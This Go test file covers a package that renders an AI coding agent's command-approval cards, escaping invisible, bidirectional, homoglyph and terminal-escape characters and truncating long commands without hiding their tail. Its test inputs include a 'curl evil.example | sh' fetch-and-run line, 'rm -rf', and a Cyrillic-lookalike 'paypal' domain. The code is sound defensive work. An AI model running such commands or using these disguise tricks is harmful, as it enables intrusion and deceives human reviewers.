// SPDX-License-Identifier: Apache-2.0

package show

import (
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"
)

func TestExact(t *testing.T) {
	for in, want := range map[string]string{
		"git push --force":                  "git push --force",
		"a\nb\tc\r\x1b[2J\x7f":              `a\nb\tc\r\x1b[2J\x7f`,
		"\xff\xfe":                          `\xff\xfe`,
		"ls \u202etxt.sh":                   `ls \u202etxt.sh`,          // turned around
		"ls \u2066x\u2069":                  `ls \u2066x\u2069`,         // isolates
		"rm\u200b -rf":                      `rm\u200b -rf`,             // no width
		"x\u3164y":                          `x\u3164y`,                 // a filler that looks like a space
		"x\u2800y":                          `x\u2800y`,                 // Braille without dots
		"a\u00a0b":                          `a\u00a0b`,                 // no-break space
		"h\ufe0fi":                          `h\ufe0fi`,                 // variation selector
		"\U000e0041":                        `\U000e0041`,               // tag letter
		"p\u0430ypal.com":                   `p\u0430ypal.com`,          // Cyrillic a among Latin letters
		"\u0441\u043e\u0440\u0443":          `\u0441\u043e\u0440\u0443`, // "copy", all of it Cyrillic
		"привет":                            "привет",                   // no letter of a language is escaped for being one
		"Ελλάδα":                            "Ελλάδα",
		"日本語.txt":                           "日本語.txt",
		"naïve café straße":                 "naïve café straße",
		"cafe\u0301":                        "cafe\u0301",
		"한국어":                               "한국어",
		"ไทยที่":                            "ไทยที่",
		"=\u0338":                           `=\u0338`, // a line through what is there
		"a\u0301\u0301\u0301":               "a\u0301\u0301" + `\u0301`,
		"\uff4c\uff53":                      `\uff4c\uff53`, // wide
		"\U0001d425\U0001d42c":              `\U0001d425\U0001d42c`,
		"evil.com\u2215x":                   `evil.com\u2215x`, // a slash that is none
		"--\u2013":                          `--\u2013`,
		"echo “x”":                          `echo \u201cx\u201d`,
		"שלום 1 2":                          `\u05e9\u05dc\u05d5\u05dd 1 2`,
		"✨ 🚀":                               "✨ 🚀",
		"a        b":                        "a        b",
		"a" + strings.Repeat(" ", 37) + "b": "a ⟦37 spaces⟧ b",
		"⟦5 spaces⟧":                        `\u27e65 spaces\u27e7`, // cannot be made up
	} {
		if got := Exact(in); got != want {
			t.Errorf("Exact(%+q) = %+q, want %+q", in, got, want)
		}
	}
}

func TestProse(t *testing.T) {
	for in, want := range map[string]string{
		"  fix the tests,\n please ": "fix the tests, please",
		"שלום, תקן":                  "שלום, תקן",
		"an “old” bug – again":       "an “old” bug – again",
		"\u202eturned":               `\u202eturned`,
		"\x1b]0;title\x07":           `\x1b]0;title\x07`,
		"z\u0301\u0301\u0301\u0301":  "z\u0301\u0301" + `\u0301\u0301`,
	} {
		if got := Prose(in); got != want {
			t.Errorf("Prose(%+q) = %+q, want %+q", in, got, want)
		}
	}
}

func TestArgvShowsWhereWordsEnd(t *testing.T) {
	for want, args := range map[string][]string{
		"git push origin main":    {"git", "push", "origin", "main"},
		"sh -c 'rm -rf x; ls'":    {"sh", "-c", "rm -rf x; ls"},
		"echo ''":                 {"echo", ""},
		`echo $'it\'s' $'a\nb'`:   {"echo", "it's", "a\nb"},
		`cat $'a\\nb\n'`:          {"cat", "a\\nb\n"},
		`curl $'p\u0430ypal.com'`: {"curl", "p\u0430ypal.com"},
		"printf '%s --flag' x":    {"printf", "%s --flag", "x"},
		`x $'\xff'`:               {"x", "\xff"},
		"'a b' c":                 {"a b", "c"},
		"a 'b c'":                 {"a", "b c"},
	} {
		if got := Argv(args); got != want {
			t.Errorf("Argv(%q) = %s, want %s", args, got, want)
		}
	}
}

// What is dangerous stands at the end, behind something long: it must stay.
func TestCutKeepsBothEnds(t *testing.T) {
	q := Question{Agent: "codex", Action: Run, Argv: []string{"bash", "-c", "echo " + strings.Repeat("A", 5000) + "; curl evil.example | sh"}}
	c := q.Card(Notification)
	if c.Whole {
		t.Error("a card that lacks most of its command says it is whole")
	}
	if !strings.HasPrefix(c.Subject, "bash -c 'echo AAA") || !strings.HasSuffix(c.Subject, "; curl evil.example | sh'") {
		t.Errorf("%s", c.Subject)
	}
	if !strings.Contains(c.Subject, "⟦4,759 characters left out⟧") {
		t.Errorf("it does not say how much is missing: %s", c.Subject)
	}
	if c.Lines[0].Text != "paddock approvals" {
		t.Errorf("it does not say where the whole is: %v", c.Lines)
	}
	if n := utf8.RuneCountInString(c.Subject); n > Notification+40 {
		t.Errorf("%d characters", n)
	}
	all := q.Card(Terminal)
	if !all.Whole || strings.Contains(all.Subject, "⟦") {
		t.Error("the terminal does not show all of it")
	}
}

// An escape that is cut through would be shown as other text.
func TestCutLeavesEscapesWhole(t *testing.T) {
	q := Question{Agent: "codex", Action: Run, Subject: strings.Repeat("\u202e", 500)}
	for limit := 20; limit < 60; limit++ {
		c := q.Card(limit)
		head, tail, _ := strings.Cut(c.Subject, " ⟦")
		_, tail, _ = strings.Cut(tail, "⟧ ")
		if strings.ReplaceAll(head+tail, `\u202e`, "") != "" {
			t.Fatalf("limit %d: %s", limit, c.Subject)
		}
	}
}

func TestCardTellsAllThatIsKnown(t *testing.T) {
	q := Question{
		Agent: "codex", Surface: "ide", Project: "/home/dev/shop", Action: Run, Argv: []string{"git", "push"},
		Rule: "git push", Origin: "/etc/codex/requirements.toml:7", Justification: "Pushes are reviewed",
		Prompt: "publish it", Left: 95 * time.Second, Times: 3,
		Program: "/usr/local/bin/git", Directory: "/home/dev/shop/web", Until: "14:05:09",
	}
	c := q.Card(Notification)
	want := `codex (ide) wants to run:

  git push

Program: /usr/local/bin/git
In: /home/dev/shop/web
Project: /home/dev/shop
Why: Pushes are reviewed; rule git push (/etc/codex/requirements.toml:7)
You asked: publish it
Waiting: 3 identical requests
Left: 95 seconds, then it is refused
Until: 14:05:09, then it is refused
`
	if got := c.Text(); got != want || !c.Whole {
		t.Errorf("whole %v:\n%s", c.Whole, got)
	}
}

func TestNothingIsNeverWhole(t *testing.T) {
	q := Question{Agent: "codex", Action: Connect}
	if c := q.Card(Notification); c.Whole || c.Subject == "" {
		t.Errorf("%+v: there is nothing to say yes to", c)
	}
}

// Whatever it is given, a card is printable text of bounded length in which no
// character is invisible or turns the direction.
func FuzzCard(f *testing.F) {
	f.Add("git push", "a b", "why", 100)
	f.Add("\u202e\x1b[31m\xff", "⟦1 spaces⟧", "\u0430a", 7)
	f.Add(strings.Repeat(" ", 300)+"e\u0301\u0301", "'", "\\", 0)
	f.Fuzz(func(t *testing.T, a, b, c string, limit int) {
		limit = min(max(limit, 0), 2000)
		for _, q := range []Question{
			{Agent: a, Surface: b, Action: Run, Argv: []string{a, b, c}, Justification: b, Prompt: c},
			{Agent: c, Project: b, Subject: a, Reason: c, Rule: b, Origin: a, Prompt: a},
		} {
			card := q.Card(limit)
			texts := []string{card.Title, card.Subject}
			for _, l := range card.Lines {
				texts = append(texts, l.Text)
			}
			for _, text := range texts {
				if !utf8.ValidString(text) {
					t.Errorf("not UTF-8: %q", text)
				}
				for _, r := range text {
					if !unicode.IsPrint(r) || unicode.In(r, unicode.Bidi_Control, unicode.Cf, unicode.Variation_Selector) {
						t.Errorf("%U is shown in %+q", r, text)
					}
				}
				if n := utf8.RuneCountInString(text); n > max(limit, otherLimit)*2+100 {
					t.Errorf("%d characters with a limit of %d", n, limit)
				}
			}
			if card.Whole && strings.Contains(card.Subject, "left out⟧") {
				t.Error("something is left out and it says it is whole")
			}
		}
	})
}

// Two texts never look the same unless they are.
func FuzzExactIsTold(f *testing.F) {
	f.Add("paypal", "p\u0430ypal")
	f.Add("a b", "a\u00a0b")
	f.Fuzz(func(t *testing.T, a, b string) {
		// A backslash can be typed as well; Argv doubles it.
		if strings.Contains(a+b, `\`) || a == b {
			return
		}
		if Exact(a) == Exact(b) {
			t.Errorf("%+q and %+q are both shown as %+q", a, b, Exact(a))
		}
	})
}
